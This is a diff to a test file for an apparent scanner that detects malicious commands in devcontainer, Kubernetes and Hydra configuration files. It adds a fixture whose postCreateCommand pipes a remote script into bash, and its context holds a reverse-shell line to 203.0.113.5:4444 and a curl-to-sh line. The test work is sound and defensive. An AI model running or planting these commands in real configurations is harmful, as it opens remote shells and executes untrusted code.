@@ -43,6 +43,13 @@ BAD = {
         '{\n  "image": "mcr.microsoft.com/devcontainers/python:3.11",\n'
         '  "postCreateCommand": "pip install -e . && bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"\n}\n'
     ),
+    # Issue #16: JSON with comments in a per-configuration folder (the spec's
+    # layout; espnet ships four): its commands were never read as shell.
+    ".devcontainer/gpu/devcontainer.json": (
+        "// For format details, see https://aka.ms/devcontainer.json.\n{\n"
+        '  "image": "mcr.microsoft.com/devcontainers/python:3.11", // base\n'
+        '  "postCreateCommand": "curl -fsSL http://203.0.113.5/setup.sh | bash",\n}\n'
+    ),
     # Kubernetes lifecycle hook, two levels below `lifecycle`.
     "deploy/pod.yaml": (
         "spec:\n  containers:\n    - name: t\n      lifecycle:\n        postStart:\n"
@@ -63,6 +70,7 @@ EXPECTED = {
     ("conf/hydra/launcher/slurm.yaml", "obfusc-shell-decode-exec", 4),
     (".devcontainer/devcontainer.json", "egress-shell-reverse-shell", 3),
     ("deploy/pod.yaml", "tamper-shell-preload-env", 7),
+    (".devcontainer/gpu/devcontainer.json", "remote-shell-fetch-exec", 4),
     ("conf/launcher/cluster.yaml", "remote-shell-fetch-exec", 3),
 }
 
@@ -84,6 +92,13 @@ QUIET = {
     # A command mentions curl, but pipes nothing into a shell.
     "deploy/ok-compose.yml": (
         "services:\n  probe:\n    command: curl -fsS http://localhost:8000/health\n"
+    ),
+    # Issue #16: espnet's devcontainer configurations: comments, a build script.
+    ".devcontainer/ci_cpu/devcontainer.json": (
+        "// For format details, see https://aka.ms/devcontainer.json.\n{\n"
+        '\t"name": "CI Test (CPU)",\n\t"image": "espnet/dev:ci",\n'
+        '\t"initializeCommand": ".devcontainer/ci_cpu/build_image.sh",\n'
+        '\t"features": {},\n\t// "forwardPorts": [],\n}\n'
     ),
     # Not a config the commands walker can compose: the config check's business.
     "deploy/broken.yaml": "command: [unclosed\n  - curl http://x | sh\n",
@@ -149,3 +164,11 @@ def test_no_command_key_means_no_target() -> None:
         for p, c in zip("abcdefgh", "bcdefghi", strict=True)
     )
     assert command_text(bomb + "run: {script: *i}\n") is not None
+
+
+def test_devcontainer_with_comments_in_a_folder_parses(report: dict[str, Any]) -> None:
+    # Issue #16: .devcontainer/<name>/devcontainer.json is JSON with comments
+    # too; it blocked as config-parse-error, a false positive on every espnet
+    # configuration.
+    path = ".devcontainer/ci_cpu/devcontainer.json"
+    assert [f["rule_id"] for f in report["findings"] if f["path"] == path] == []
